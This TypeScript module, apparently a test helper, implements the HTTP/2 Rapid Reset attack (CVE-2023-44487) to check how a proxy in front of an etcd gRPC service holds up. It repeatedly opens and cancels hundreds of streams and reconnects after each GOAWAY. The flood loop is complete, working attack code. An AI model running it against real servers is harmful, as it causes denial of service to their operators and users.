// A client that opens calls and resets them at once (CVE-2023-44487), and connects again when
// the proxy ends the connection.
import { FrameType, RawHttp2 } from "../../support/raw-http2.ts";

const CANCEL = 8;
const CALLS = 500;
const PAUSE_MS = 100;

/** Floods for `ms` milliseconds. */
export async function floodResets(port: number, ms: number): Promise<void> {
  const until = performance.now() + ms;
  while (performance.now() < until) {
    const client = await RawHttp2.connect(port).catch(() => undefined);
    if (client === undefined) {
      await Bun.sleep(PAUSE_MS);
      continue;
    }
    let isOver = false;
    client.onFrame = ({ type }) => {
      client.frames.length = 0;
      if (type === FrameType.goAway) isOver = true;
    };
    for (let id = 1; !isOver && performance.now() < until; await Bun.sleep(PAUSE_MS))
      for (let i = 0; i < CALLS; i++, id += 2) {
        client.sendHeaders(id, {
          ...{ ":method": "POST", ":scheme": "http", ":path": "/etcdserverpb.KV/Range" },
          ...{ ":authority": "etcd", "content-type": "application/grpc", te: "trailers" },
        });
        client.reset(id, CANCEL);
      }
    client.close();
  }
}
